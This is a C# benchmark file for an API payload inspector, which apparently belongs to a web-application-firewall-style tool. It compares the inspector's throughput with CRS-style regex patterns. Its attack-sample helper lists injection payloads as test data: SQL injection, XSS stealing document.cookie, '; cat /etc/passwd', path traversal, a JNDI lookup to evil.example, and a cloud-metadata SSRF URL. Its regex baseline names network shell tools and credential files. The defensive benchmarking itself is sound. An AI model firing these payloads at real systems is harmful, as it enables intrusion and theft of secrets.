using System.Text;
using System.Text.Json;
using System.Text.RegularExpressions;
using ApiGuard.Inspection;
using BenchmarkDotNet.Attributes;

namespace ApiGuard.Benchmarks.Inspection.Engine;

/// <summary>
/// The payload inspector per value over the whole development corpus (../shared/corpus), on 4 KB and 64 KB benign
/// JSON-ish text values and on an attack-laden value; against a baseline that runs CRS-style compiled .NET regular
/// expressions for the same families. Throughput in MB/s = (corpus bytes / values) / mean per value.
/// </summary>
[MemoryDiagnoser]
public class PayloadInspectorBenchmarks
{
    private readonly PayloadInspector _inspector = new();
    private readonly InspectionFinding[] _findings = new InspectionFinding[16];
    private byte[][] _corpus = [];
    private string[] _corpusStrings = [];
    private byte[] _json4K = [];
    private byte[] _json64K = [];
    private byte[] _attacks4K = [];
    private string _json4KString = string.Empty;
    private Regex[] _crsStyle = [];

    /// <summary>Values in the corpus (the operations per invoke of the corpus rows).</summary>
    public const int CorpusValues = 34961;

    [GlobalSetup]
    public void Setup()
    {
        var values = new List<string>();
        foreach (var file in Directory.GetFiles(CorpusDirectory(), "*.jsonl").Order(StringComparer.Ordinal))
        {
            foreach (var line in File.ReadLines(file).Where(l => l.Length > 0))
            {
                using var doc = JsonDocument.Parse(line);
                values.Add(doc.RootElement.GetProperty("payload").GetString()!);
            }
        }

        if (values.Count != CorpusValues)
        {
            throw new InvalidOperationException($"corpus has {values.Count} values, the benchmark expects {CorpusValues}");
        }

        _corpusStrings = [.. values];
        _corpus = values.Select(Encoding.UTF8.GetBytes).ToArray();
        var totalBytes = _corpus.Sum(v => (long)v.Length);
        Console.WriteLine($"// corpus: {_corpus.Length} values, {totalBytes} bytes, {totalBytes / (double)_corpus.Length:0.0} bytes per value");

        _json4K = Encoding.UTF8.GetBytes(BenignJson(4 * 1024));
        _json4KString = Encoding.UTF8.GetString(_json4K);
        _json64K = Encoding.UTF8.GetBytes(BenignJson(64 * 1024));
        _attacks4K = Encoding.UTF8.GetBytes(AttackJson(4 * 1024));
        _crsStyle = CrsStylePatterns().Select(p => new Regex(p, RegexOptions.Compiled | RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)).ToArray();
    }

    [Benchmark(OperationsPerInvoke = CorpusValues, Description = "Inspector, per corpus value (UTF-8)")]
    public int CorpusPerValue()
    {
        var attacks = 0;
        foreach (var v in _corpus)
        {
            attacks += _inspector.Inspect(v, default, _findings).Score >= PayloadInspector.DefaultThreshold ? 1 : 0;
        }

        return attacks;
    }

    /// <summary>What Enforce asks of the engine: the same verdicts, detectors skipped once a value reaches the block score.</summary>
    [Benchmark(OperationsPerInvoke = CorpusValues, Description = "Inspector, per corpus value, stopping at the block score (Enforce)")]
    public int CorpusPerValueStopAtBlockScore()
    {
        var settings = new InspectionSettings(StopAtScore: PayloadInspector.DefaultThreshold);
        var attacks = 0;
        foreach (var v in _corpus)
        {
            attacks += _inspector.Inspect(v, settings, _findings).Score >= PayloadInspector.DefaultThreshold ? 1 : 0;
        }

        return attacks;
    }

    [Benchmark(OperationsPerInvoke = CorpusValues, Description = "CRS-style compiled Regex baseline, per corpus value")]
    public int RegexBaselineCorpusPerValue()
    {
        var attacks = 0;
        foreach (var v in _corpusStrings)
        {
            attacks += RegexMatches(v);
        }

        return attacks;
    }

    [Benchmark(Description = "Inspector, 4 KB benign JSON-ish text")]
    public int BenignJson4K() => _inspector.Inspect(_json4K, default, _findings).Score;

    [Benchmark(Description = "Inspector, 64 KB benign JSON-ish text")]
    public int BenignJson64K() => _inspector.Inspect(_json64K, default, _findings).Score;

    [Benchmark(Description = "Inspector, 4 KB attack-laden text")]
    public int AttackLaden4K() => _inspector.Inspect(_attacks4K, default, _findings).Score;

    [Benchmark(Description = "CRS-style compiled Regex baseline, 4 KB benign JSON-ish text")]
    public int RegexBaselineJson4K() => RegexMatches(_json4KString);

    private int RegexMatches(string value)
    {
        var n = 0;
        foreach (var r in _crsStyle)
        {
            n += r.IsMatch(value) ? 1 : 0;
        }

        return n;
    }

    /// <summary>Simplified patterns in the style of CRS 930-944 (one or two per family), for the speed ratio only.</summary>
    private static string[] CrsStylePatterns() =>
    [
        @"(?:\bunion\b[\s\S]*?\bselect\b|\bselect\b[\s\S]*?\bfrom\b|'\s*(?:or|and)\s+[\w'""]+\s*=|;\s*(?:drop|delete|insert|update|shutdown|exec)\b|\b(?:sleep|benchmark|pg_sleep)\s*\(|(?:--|#|/\*)\s*$)",
        @"(?:<\s*/?\s*(?:script|iframe|object|embed|svg|img|body|style|link|meta|base)\b|\bon[a-z]{3,}\s*=|(?:java|vb)script\s*:|expression\s*\(|document\.cookie|alert\s*\()",
        @"(?:[;&|`]\s*(?:cat|ls|id|whoami|uname|wget|curl|nc|bash|sh|python|perl|ping|nslookup)\b|\$\((?:[^)]*)\)|\$\{IFS\}|\bcmd(?:\.exe)?\s*/c\b|\bpowershell\b)",
        @"(?:\.\.[/\\]|/etc/(?:passwd|shadow|hosts)|\b(?:boot|win)\.ini\b|/proc/self/)",
        @"(?:(?:https?|ftp|gopher|dict|file)://(?:\d{1,3}\.){3}\d{1,3}|169\.254\.169\.254|\blocalhost\b|\[::1?\]|metadata\.google\.internal)",
        @"(?:\{\{[^}]*[\(\*\[][^}]*\}\}|\$\{[^}]*\}|#\{[^}]*\}|<%=?[\s\S]*?%>|\$\{\s*jndi\s*:)",
        @"(?:\[\$(?:ne|gt|lt|gte|lte|in|nin|regex|where|exists)\]|""\$(?:ne|gt|lt|where|regex)""\s*:)",
        @"(?:\)\s*\(\s*[|&!]|\*\)\s*\(|\)\s*\(\s*\w+\s*[~<>]?=)",
        @"(?:<!(?:DOCTYPE|ENTITY)\b[^>]*(?:SYSTEM|PUBLIC|\[))",
        @"(?:[\r\n]\s*(?:set-cookie|location|content-type)\s*:)",
        @"(?:<\?(?:php|=)?\s|\b(?:eval|system|exec|passthru|shell_exec|base64_decode|assert)\s*\(|\$_(?:GET|POST|COOKIE|SERVER|REQUEST)\b|java\.lang\.|__proto__)",
    ];

    private static string BenignJson(int size)
    {
        var sb = new StringBuilder(size + 256);
        var i = 0;
        sb.Append('{').Append("\"items\":[");
        while (sb.Length < size - 200)
        {
            sb.Append("{\"id\":\"prod-").Append(i).Append("\",\"name\":\"O'Brien's handmade mug #").Append(i)
                .Append("\",\"description\":\"A 12 oz (350 ml) stoneware mug; dishwasher-safe & microwave-safe. Select your color from the list, then order by Friday.\",")
                .Append("\"url\":\"https://shop.example.com/products/").Append(i).Append("?ref=home&utm_source=mail\",\"price\":\"$12.50\",\"tags\":[\"kitchen\",\"gift\"]},");
            i++;
        }

        sb.Length--;
        sb.Append("]}");
        return sb.ToString(0, Math.Min(sb.Length, size));
    }

    private static string AttackJson(int size)
    {
        string[] attacks =
        [
            "1' OR '1'='1' -- ",
            "<script>alert(document.cookie)</script>",
            "; cat /etc/passwd",
            "../../../../etc/shadow",
            "${jndi:ldap://evil.example/a}",
            "http://169.254.169.254/latest/meta-data/",
            "{{7*7}}",
            "%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
        ];
        var sb = new StringBuilder(size + 256);
        var i = 0;
        while (sb.Length < size)
        {
            sb.Append("{\"comment\":\"").Append(attacks[i % attacks.Length]).Append("\",\"n\":").Append(i).Append("},");
            i++;
        }

        return sb.ToString(0, size);
    }

    private static string CorpusDirectory()
    {
        var dir = new DirectoryInfo(AppContext.BaseDirectory);
        while (dir is not null && !File.Exists(Path.Combine(dir.FullName, "ApiGuard.sln")))
        {
            dir = dir.Parent;
        }

        for (var d = dir?.Parent; d is not null; d = d.Parent)
        {
            var corpus = Path.Combine(d.FullName, "shared", "corpus");
            if (Directory.Exists(corpus))
            {
                return corpus;
            }
        }

        throw new DirectoryNotFoundException("../shared/corpus not found beside the repository");
    }
}
